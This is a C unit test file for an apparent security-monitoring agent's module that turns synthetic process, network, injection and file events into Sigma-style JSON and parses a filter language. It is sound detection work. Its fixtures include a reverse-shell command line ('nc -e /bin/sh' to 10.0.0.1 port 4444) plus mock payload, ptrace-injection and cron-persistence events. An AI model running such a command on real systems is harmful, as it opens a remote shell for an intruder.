/* Unit tests for event_json: the Sigma field names of each event type, the
 * values taken from the process table (parent, ancestors, target image),
 * CommandLine quoting and its cap, text that is not UTF-8, the user name
 * cache, and the --filter language. Events are synthetic. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <cmocka.h>

#include <jansson.h>

#include "agent/src/event_json.h"

#define SEC 1000000000ull
#define WALL 1764462708123456789ll      /* 2025-11-30T00:31:48.123456789Z */

static struct agent_event *ev_new(enum ev_type t, uint32_t pid, uint64_t start, uint32_t ppid)
{
        struct agent_event *ev = calloc(1, sizeof(*ev));

        assert_non_null(ev);
        ev->type = t;
        ev->mono_ns = 5 * SEC;
        ev->wall_ns = WALL;
        ev->proc.pid = pid;
        ev->proc.tid = pid + 1;
        ev->proc.ppid = ppid;
        ev->proc.start_ticks = start;
        ev->proc.uid = 0;
        ev->proc.euid = 0;
        ev->proc.gid = 0;
        ev->proc.egid = 0;
        ev->proc.loginuid = 1000;
        ev->proc.cgroup_id = 4242;
        snprintf(ev->proc.comm, sizeof(ev->proc.comm), "comm%u", pid);
        return ev;
}

/* argv given as one string with '|' between entries */
static void exec_set(struct agent_event *ev, const char *image, const char *argv)
{
        size_t n = strlen(argv);

        snprintf(ev->exec.image, sizeof(ev->exec.image), "%s", image);
        snprintf(ev->exec.cwd, sizeof(ev->exec.cwd), "/root");
        memcpy(ev->exec.args, argv, n + 1);
        for (size_t i = 0; i < n; i++)
                if (ev->exec.args[i] == '|')
                        ev->exec.args[i] = '\0';
        ev->exec.args_len = (uint32_t)n + 1;
}

static void feed_exec(struct proctable *pt, uint32_t pid, uint64_t start, uint32_t ppid,
                      const char *image, const char *argv)
{
        struct agent_event *ev = ev_new(EV_EXEC, pid, start, ppid);

        exec_set(ev, image, argv);
        proctable_feed(pt, ev);
        free(ev);
}

/* Feeds ev to pt and builds its object. */
static json_t *build(struct event_json *ej, struct proctable *pt, const struct agent_event *ev)
{
        json_t *o = NULL;
        char *text;

        if (pt)
                proctable_feed(pt, ev);
        assert_int_equal(event_json_build(ej, ev, pt, &o), 0);
        assert_non_null(o);
        text = json_dumps(o, JSON_COMPACT);     /* fails on anything not UTF-8 */
        assert_non_null(text);
        free(text);
        return o;
}

static const char *str(const json_t *o, const char *key)
{
        const json_t *v = json_object_get(o, key);

        if (!json_is_string(v))
                fail_msg("field %s is not a string", key);
        return json_string_value(v);
}

static long long num(const json_t *o, const char *key)
{
        const json_t *v = json_object_get(o, key);

        if (!json_is_integer(v))
                fail_msg("field %s is not an integer", key);
        return json_integer_value(v);
}

static bool flag(const json_t *o, const char *key)
{
        const json_t *v = json_object_get(o, key);

        if (!json_is_boolean(v))
                fail_msg("field %s is not a boolean", key);
        return json_is_true(v);
}

static void test_type_names(void **state)
{
        static const char *const names[] = {
                NULL, "process_exec", "process_fork", "process_exit", "credential_change",
                "ptrace", "process_vm_write", "proc_mem_write", "memfd_create",
                "network_connect", "network_accept", "file_event",
        };

        for (int t = EV_EXEC; t <= EV_FILE; t++)
                assert_string_equal(event_type_name((enum ev_type)t), names[t]);
        assert_string_equal(event_type_name((enum ev_type)99), "unknown");
}

static void test_exec(void **state)
{
        struct proctable *pt = proctable_new(64, 0);
        struct event_json *ej = event_json_new("bpf");
        struct agent_event *ev;
        const json_t *anc;
        json_t *o;

        feed_exec(pt, 1, 1, 0, "/sbin/init", "/sbin/init");
        feed_exec(pt, 50, 10, 1, "/usr/sbin/sshd", "sshd: u [priv]");
        feed_exec(pt, 100, 20, 50, "/bin/bash", "bash|-c|nc -e /bin/sh 10.0.0.1 4444");
        ev = ev_new(EV_EXEC, 200, 30, 100);
        exec_set(ev, "/tmp/x y/payload", "/tmp/x y/payload|--flag|");
        ev->exec.flags = EV_EXEC_MEMFD | EV_EXEC_STDIN_SOCKET | EV_EXEC_STDOUT_TTY | EV_EXEC_ARGS_TRUNCATED;
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "process_exec");
        assert_string_equal(str(o, "Category"), "process_creation");
        assert_string_equal(str(o, "Sensor"), "bpf");
        assert_string_equal(str(o, "Timestamp"), "2025-11-30T00:31:48.123456789Z");
        assert_int_equal(num(o, "MonotonicNs"), 5 * SEC);
        assert_string_equal(str(o, "Image"), "/tmp/x y/payload");
        assert_string_equal(str(o, "CommandLine"), "\"/tmp/x y/payload\" --flag \"\"");
        assert_string_equal(str(o, "CurrentDirectory"), "/root");
        assert_string_equal(str(o, "User"), "root");
        assert_int_equal(num(o, "ProcessId"), 200);
        assert_int_equal(num(o, "ThreadId"), 201);
        assert_int_equal(num(o, "ProcessStartTicks"), 30);
        assert_int_equal(num(o, "ParentProcessId"), 100);
        assert_string_equal(str(o, "ParentImage"), "/bin/bash");
        assert_string_equal(str(o, "ParentCommandLine"), "bash -c \"nc -e /bin/sh 10.0.0.1 4444\"");
        assert_int_equal(num(o, "LogonId"), 1000);
        assert_int_equal(num(o, "Uid"), 0);
        assert_int_equal(num(o, "Euid"), 0);
        assert_int_equal(num(o, "Gid"), 0);
        assert_int_equal(num(o, "Egid"), 0);
        assert_int_equal(num(o, "CgroupId"), 4242);
        assert_string_equal(str(o, "Comm"), "comm200");
        assert_true(flag(o, "ImageIsMemfd"));
        assert_false(flag(o, "ImageDeleted"));
        assert_false(flag(o, "ImageTruncated"));
        assert_true(flag(o, "StdinIsSocket"));
        assert_false(flag(o, "StdoutIsSocket"));
        assert_false(flag(o, "StderrIsSocket"));
        assert_false(flag(o, "StdinIsTty"));
        assert_true(flag(o, "StdoutIsTty"));
        assert_false(flag(o, "StderrIsTty"));
        assert_true(flag(o, "CommandLineTruncated"));
        /* fields Sigma has but Linux has not are left out */
        assert_null(json_object_get(o, "OriginalFileName"));
        assert_null(json_object_get(o, "IntegrityLevel"));
        anc = json_object_get(o, "Ancestors");
        assert_true(json_is_array(anc));
        assert_int_equal(json_array_size(anc), 3);
        assert_int_equal(num(json_array_get(anc, 0), "ProcessId"), 100);
        assert_string_equal(str(json_array_get(anc, 1), "Image"), "/usr/sbin/sshd");
        assert_string_equal(str(json_array_get(anc, 1), "CommandLine"), "\"sshd: u [priv]\"");
        assert_string_equal(str(json_array_get(anc, 2), "Image"), "/sbin/init");
        json_decref(o);

        /* without a table: the event's own fields, no parent */
        o = build(ej, NULL, ev);
        assert_string_equal(str(o, "Image"), "/tmp/x y/payload");
        assert_null(json_object_get(o, "ParentImage"));
        assert_null(json_object_get(o, "Ancestors"));
        json_decref(o);
        free(ev);
        event_json_free(ej);
        proctable_free(pt);
}

/* Events other than exec take Image and CommandLine from the table. */
static void test_fork_exit(void **state)
{
        struct proctable *pt = proctable_new(64, 0);
        struct event_json *ej = event_json_new("cnproc");
        struct agent_event *ev;
        json_t *o;

        feed_exec(pt, 100, 20, 1, "/bin/bash", "bash");
        ev = ev_new(EV_FORK, 100, 20, 1);
        ev->fork.child_pid = 101;
        ev->fork.child_start_ticks = 21;
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "process_fork");
        assert_null(json_object_get(o, "Category"));
        assert_string_equal(str(o, "Sensor"), "cnproc");
        assert_int_equal(num(o, "ProcessId"), 100);
        assert_int_equal(num(o, "ChildProcessId"), 101);
        assert_int_equal(num(o, "ChildProcessStartTicks"), 21);
        assert_string_equal(str(o, "Image"), "/bin/bash");
        assert_string_equal(str(o, "CommandLine"), "bash");
        json_decref(o);
        free(ev);

        ev = ev_new(EV_EXIT, 101, 21, 100);
        ev->exit.code = 3 << 8;
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "process_exit");
        assert_string_equal(str(o, "Image"), "/bin/bash");   /* inherited, exited, still known */
        assert_string_equal(str(o, "ParentImage"), "/bin/bash");
        assert_int_equal(num(o, "ExitStatus"), 768);
        assert_int_equal(num(o, "ExitCode"), 3);
        assert_null(json_object_get(o, "ExitSignal"));
        json_decref(o);
        ev->exit.code = 9;
        o = build(ej, pt, ev);
        assert_int_equal(num(o, "ExitSignal"), 9);
        assert_null(json_object_get(o, "ExitCode"));
        json_decref(o);
        free(ev);
        event_json_free(ej);
        proctable_free(pt);
}

static void test_cred(void **state)
{
        struct proctable *pt = proctable_new(64, 0);
        struct event_json *ej = event_json_new("bpf");
        struct agent_event *ev = ev_new(EV_CRED, 100, 20, 1);
        json_t *o;

        ev->proc.uid = 65534;
        ev->cred = (struct ev_cred){ .old_uid = 65534, .old_euid = 65534, .new_uid = 65534,
                                     .new_euid = 0, .old_gid = 65534, .old_egid = 65534,
                                     .new_gid = 65534, .new_egid = 65534,
                                     .cause = EV_CRED_SETUID_EXEC };
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "credential_change");
        assert_int_equal(num(o, "OldUid"), 65534);
        assert_int_equal(num(o, "OldEuid"), 65534);
        assert_int_equal(num(o, "NewUid"), 65534);
        assert_int_equal(num(o, "NewEuid"), 0);
        assert_int_equal(num(o, "NewEgid"), 65534);
        assert_string_equal(str(o, "CredCause"), "setuid_exec");
        json_decref(o);

        /* what a sensor does not know (UINT32_MAX) is left out */
        ev->cred.old_uid = ev->cred.old_euid = UINT32_MAX;
        ev->cred.cause = EV_CRED_OTHER;
        ev->proc.euid = UINT32_MAX;
        o = build(ej, pt, ev);
        assert_null(json_object_get(o, "OldUid"));
        assert_null(json_object_get(o, "OldEuid"));
        assert_int_equal(num(o, "NewEuid"), 0);
        assert_int_equal(num(o, "Euid"), 0);                    /* from the table */
        assert_string_equal(str(o, "CredCause"), "other");
        json_decref(o);
        free(ev);
        event_json_free(ej);
        proctable_free(pt);
}

static void test_inject_memfd(void **state)
{
        struct proctable *pt = proctable_new(64, 0);
        struct event_json *ej = event_json_new("bpf");
        struct agent_event *ev;
        json_t *o;

        feed_exec(pt, 300, 30, 1, "/usr/sbin/nginx", "nginx|-g|daemon off;");
        feed_exec(pt, 400, 40, 1, "/tmp/inject", "inject");
        ev = ev_new(EV_PTRACE, 400, 40, 1);
        ev->inject.target_pid = 300;
        ev->inject.target_start_ticks = 30;
        ev->inject.request = 0x4206;
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "ptrace");
        assert_string_equal(str(o, "Image"), "/tmp/inject");
        assert_int_equal(num(o, "TargetProcessId"), 300);
        assert_int_equal(num(o, "TargetProcessStartTicks"), 30);
        assert_string_equal(str(o, "TargetImage"), "/usr/sbin/nginx");
        assert_string_equal(str(o, "TargetCommandLine"), "nginx -g \"daemon off;\"");
        assert_int_equal(num(o, "PtraceRequest"), 0x4206);
        assert_string_equal(str(o, "PtraceRequestName"), "PTRACE_SEIZE");
        assert_null(json_object_get(o, "BytesWritten"));
        json_decref(o);

        ev->type = EV_VM_WRITE;
        ev->inject.request = 0;
        ev->inject.bytes = 4096;
        ev->inject.target_start_ticks = 0;      /* unknown: the live process */
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "process_vm_write");
        assert_string_equal(str(o, "TargetImage"), "/usr/sbin/nginx");
        assert_int_equal(num(o, "BytesWritten"), 4096);
        assert_null(json_object_get(o, "PtraceRequest"));
        json_decref(o);

        ev->type = EV_PROC_MEM_WRITE;
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "proc_mem_write");
        json_decref(o);
        free(ev);

        ev = ev_new(EV_MEMFD, 400, 40, 1);
        snprintf(ev->memfd.name, sizeof(ev->memfd.name), "payload");
        ev->memfd.flags = 3;
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "memfd_create");
        assert_string_equal(str(o, "MemfdName"), "payload");
        assert_int_equal(num(o, "MemfdFlags"), 3);
        json_decref(o);
        free(ev);
        event_json_free(ej);
        proctable_free(pt);
}

static void test_network(void **state)
{
        struct proctable *pt = proctable_new(64, 0);
        struct event_json *ej = event_json_new("bpf");
        struct agent_event *ev;
        json_t *o;

        feed_exec(pt, 500, 50, 1, "/bin/bash", "bash|-i");
        ev = ev_new(EV_CONNECT, 500, 50, 1);
        ev->net.family = AF_INET;
        ev->net.protocol = EV_PROTO_TCP;
        memcpy(ev->net.saddr, "\x7f\x00\x00\x01", 4);
        memcpy(ev->net.daddr, "\x0a\x01\x02\x03", 4);
        ev->net.sport = 40000;
        ev->net.dport = 4444;
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "network_connect");
        assert_string_equal(str(o, "Category"), "network_connection");
        assert_string_equal(str(o, "Image"), "/bin/bash");
        assert_string_equal(str(o, "Initiated"), "true");
        assert_string_equal(str(o, "Protocol"), "tcp");
        assert_string_equal(str(o, "SourceIp"), "127.0.0.1");
        assert_int_equal(num(o, "SourcePort"), 40000);
        assert_string_equal(str(o, "DestinationIp"), "10.1.2.3");
        assert_int_equal(num(o, "DestinationPort"), 4444);
        assert_string_equal(str(o, "DestinationIsIpv6"), "false");
        assert_string_equal(str(o, "SourceIsIpv6"), "false");
        json_decref(o);

        /* accept: the peer opened the connection, so it is the source */
        ev->type = EV_ACCEPT;
        ev->net.family = AF_INET6;
        ev->net.protocol = EV_PROTO_UDP;
        memset(ev->net.saddr, 0, 16);
        ev->net.saddr[15] = 1;
        memset(ev->net.daddr, 0, 16);
        memcpy(ev->net.daddr, "\xfe\x80", 2);
        ev->net.daddr[15] = 9;
        ev->net.sport = 22;
        ev->net.dport = 50000;
        o = build(ej, pt, ev);
        assert_string_equal(str(o, "EventType"), "network_accept");
        assert_string_equal(str(o, "Initiated"), "false");
        assert_string_equal(str(o, "Protocol"), "udp");
        assert_string_equal(str(o, "SourceIp"), "fe80::9");
        assert_int_equal(num(o, "SourcePort"), 50000);
        assert_string_equal(str(o, "DestinationIp"), "::1");
        assert_int_equal(num(o, "DestinationPort"), 22);
        assert_string_equal(str(o, "DestinationIsIpv6"), "true");
        json_decref(o);
        free(ev);
        event_json_free(ej);
        proctable_free(pt);
}

static void test_file(void **state)
{
        static const char *const types[] = { NULL, "file_create", "file_modify", "file_rename", "file_delete" };
        struct event_json *ej = event_json_new("bpf");
        struct agent_event *ev = ev_new(EV_FILE, 600, 60, 1);
        json_t *o;

        snprintf(ev->file.path, sizeof(ev->file.path), "/etc/cron.d/evil");
        for (uint32_t op = EV_FILE_CREATE; op <= EV_FILE_DELETE; op++) {
                ev->file.op = op;
                o = build(ej, NULL, ev);
                assert_string_equal(str(o, "EventType"), types[op]);
                assert_string_equal(str(o, "Category"), op == EV_FILE_DELETE ? "file_delete" : "file_event");
                assert_string_equal(str(o, "TargetFilename"), "/etc/cron.d/evil");
                json_decref(o);
        }
        ev->file.op = 77;
        o = build(ej, NULL, ev);
        assert_string_equal(str(o, "EventType"), "file_event");
        json_decref(o);
        free(ev);
        event_json_free(ej);
}

static void test_cmdline(void **state)
{
        char out[64];
        bool cut = true;
        size_t n;

        n = event_cmdline_join("sh\0-c\0echo hi there\0\0a\"b\0back\\slash\0", 36, out, sizeof(out), &cut);
        assert_string_equal(out, "sh -c \"echo hi there\" \"\" \"a\\\"b\" \"back\\\\slash\"");
        assert_int_equal(n, strlen(out));
        assert_false(cut);

        /* tab and newline quote too; a last entry without NUL still counts */
        event_cmdline_join("a\tb\0c\nd\0e", 10, out, sizeof(out), &cut);
        assert_string_equal(out, "\"a\tb\" \"c\nd\" e");

        /* not UTF-8: each bad byte becomes U+FFFD; valid UTF-8 stays */
        event_cmdline_join("\xff\xc3\xa9\xc0\x80\0", 6, out, sizeof(out), &cut);
        assert_string_equal(out, "\xef\xbf\xbd\xc3\xa9\xef\xbf\xbd\xef\xbf\xbd");

        /* cut at the cap, never inside a character */
        n = event_cmdline_join("abcdefghij\0", 11, out, 6, &cut);
        assert_true(cut);
        assert_int_equal(n, 5);
        assert_string_equal(out, "abcde");
        n = event_cmdline_join("ab\xc3\xa9\xc3\xa9\0", 7, out, 6, &cut);
        assert_true(cut);
        assert_string_equal(out, "ab\xc3\xa9");
        n = event_cmdline_join("", 0, out, sizeof(out), &cut);
        assert_int_equal(n, 0);
        assert_string_equal(out, "");
        assert_false(cut);
}

/* The longest argv cannot overflow CommandLine, and an image that is not
 * UTF-8 still gives valid JSON. */
static void test_caps(void **state)
{
        struct event_json *ej = event_json_new("bpf");
        struct agent_event *ev = ev_new(EV_EXEC, 700, 70, 1);
        json_t *o;

        memset(ev->exec.args, '"', EV_ARGS_MAX);
        for (size_t i = 1; i < EV_ARGS_MAX; i += 2)
                ev->exec.args[i] = '\0';
        ev->exec.args_len = EV_ARGS_MAX;
        memset(ev->exec.image, 0xff, EV_PATH_MAX);              /* no NUL at all */
        memset(ev->exec.cwd, 'c', EV_PATH_MAX);
        o = build(ej, NULL, ev);
        assert_int_equal(strlen(str(o, "CommandLine")), EV_ARGS_MAX / 2 * 5 - 1);
        assert_false(flag(o, "CommandLineTruncated"));
        assert_int_equal(strlen(str(o, "Image")), (EV_PATH_MAX - 1) * 3);
        assert_int_equal(strlen(str(o, "CurrentDirectory")), EV_PATH_MAX - 1);
        json_decref(o);

        /* args_len beyond the buffer is clamped */
        ev->exec.args_len = 10 * EV_ARGS_MAX;
        o = build(ej, NULL, ev);
        json_decref(o);
        free(ev);
        event_json_free(ej);
}

static void test_user(void **state)
{
        struct event_json *ej = event_json_new("bpf");
        struct agent_event *ev = ev_new(EV_MEMFD, 800, 80, 1);
        json_t *o;

        assert_string_equal(event_json_user(ej, 0), "root");
        assert_string_equal(event_json_user(ej, 0), "root");            /* cached */
        assert_string_equal(event_json_user(ej, 3999999999u), "3999999999");
        event_json_user(ej, EVENT_USER_CACHE);                          /* same slot as 0 */
        assert_string_equal(event_json_user(ej, 0), "root");            /* slot reused */
        ev->proc.uid = 3999999999u;
        o = build(ej, NULL, ev);
        assert_string_equal(str(o, "User"), "3999999999");
        json_decref(o);
        ev->proc.uid = UINT32_MAX;                                      /* unknown */
        o = build(ej, NULL, ev);
        assert_null(json_object_get(o, "User"));
        assert_null(json_object_get(o, "Uid"));
        json_decref(o);
        free(ev);
        event_json_free(ej);
        event_json_free(NULL);
}

static bool filter_matches(const char *expr, const char *json)
{
        struct event_filter f;
        char err[256];
        json_t *o = json_loads(json, 0, NULL);
        bool m;

        assert_non_null(o);
        if (event_filter_parse(&f, expr, err, sizeof(err)) != 0)
                fail_msg("filter '%s' refused: %s", expr, err);
        m = event_filter_match(&f, o);
        json_decref(o);
        return m;
}

static void assert_filter_refused(const char *expr, int r, const char *why)
{
        struct event_filter f;
        char err[256] = "";

        assert_int_equal(event_filter_parse(&f, expr, err, sizeof(err)), r);
        if (!strstr(err, why))
                fail_msg("filter '%s': message '%s' lacks '%s'", expr, err, why);
}

static void test_filter(void **state)
{
        const char *ev = "{\"EventType\":\"process_exec\",\"ProcessId\":123,\"Image\":\"/tmp/a,b\","
                         "\"ImageIsMemfd\":true,\"CommandLine\":\"x\\\\y\",\"Ancestors\":[]}";
        char big[EVENT_FILTER_EXPR_MAX + 10];
        struct event_filter f;
        char err[256];

        assert_true(filter_matches("", ev));
        assert_true(filter_matches("EventType=process_exec", ev));
        assert_false(filter_matches("EventType=process_exe", ev));
        assert_true(filter_matches("EventType~exec,ProcessId=123", ev));
        assert_false(filter_matches("EventType~exec,ProcessId=12", ev));
        assert_true(filter_matches("ProcessId~12", ev));
        assert_true(filter_matches("Image~/tmp/", ev));
        assert_true(filter_matches("Image=/tmp/a\\,b", ev));
        assert_true(filter_matches("CommandLine=x\\\\y", ev));
        assert_true(filter_matches("ImageIsMemfd=true", ev));
        assert_true(filter_matches("Image!=/bin/sh", ev));
        assert_false(filter_matches("Image!~tmp", ev));
        assert_true(filter_matches("User!=root", ev));          /* absent */
        assert_false(filter_matches("User=root", ev));
        assert_false(filter_matches("User~", ev));
        assert_false(filter_matches("Ancestors=", ev));         /* not a scalar */
        assert_true(filter_matches("Image~", ev));

        assert_filter_refused("=x", -EINVAL, "expected a field name");
        assert_filter_refused("9a=x", -EINVAL, "expected a field name");
        assert_filter_refused("Image", -EINVAL, "expected '='");
        assert_filter_refused("Image>3", -EINVAL, "after field 'Image'");
        assert_filter_refused("Image=a,", -EINVAL, "expected a field name");
        assert_filter_refused("Image=a\\b", -EINVAL, "bad escape");
        assert_filter_refused("Image=a\\", -EINVAL, "bad escape");
        memset(big, 'A', 70);
        snprintf(big + 70, sizeof(big) - 70, "=1");
        assert_filter_refused(big, -E2BIG, "field name longer");
        memset(big, 'a', sizeof(big) - 1);
        big[sizeof(big) - 1] = '\0';
        big[1] = '=';
        assert_filter_refused(big, -E2BIG, "filter longer");
        assert_filter_refused("a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1",
                              -E2BIG, "more than 16 terms");
        assert_int_equal(event_filter_parse(&f, "a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1,a=1",
                                            err, sizeof(err)), 0);
        assert_int_equal(f.count, 16);

        /* the longest filter fits its buffer */
        memset(big, 'v', EVENT_FILTER_EXPR_MAX);
        memcpy(big, "Image~", 6);
        big[EVENT_FILTER_EXPR_MAX] = '\0';
        assert_int_equal(event_filter_parse(&f, big, err, sizeof(err)), 0);
        assert_int_equal(f.term[0].value_len, EVENT_FILTER_EXPR_MAX - 6);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_type_names),
                cmocka_unit_test(test_exec),
                cmocka_unit_test(test_fork_exit),
                cmocka_unit_test(test_cred),
                cmocka_unit_test(test_inject_memfd),
                cmocka_unit_test(test_network),
                cmocka_unit_test(test_file),
                cmocka_unit_test(test_cmdline),
                cmocka_unit_test(test_caps),
                cmocka_unit_test(test_user),
                cmocka_unit_test(test_filter),
        };

        return cmocka_run_group_tests(tests, NULL, NULL);
}
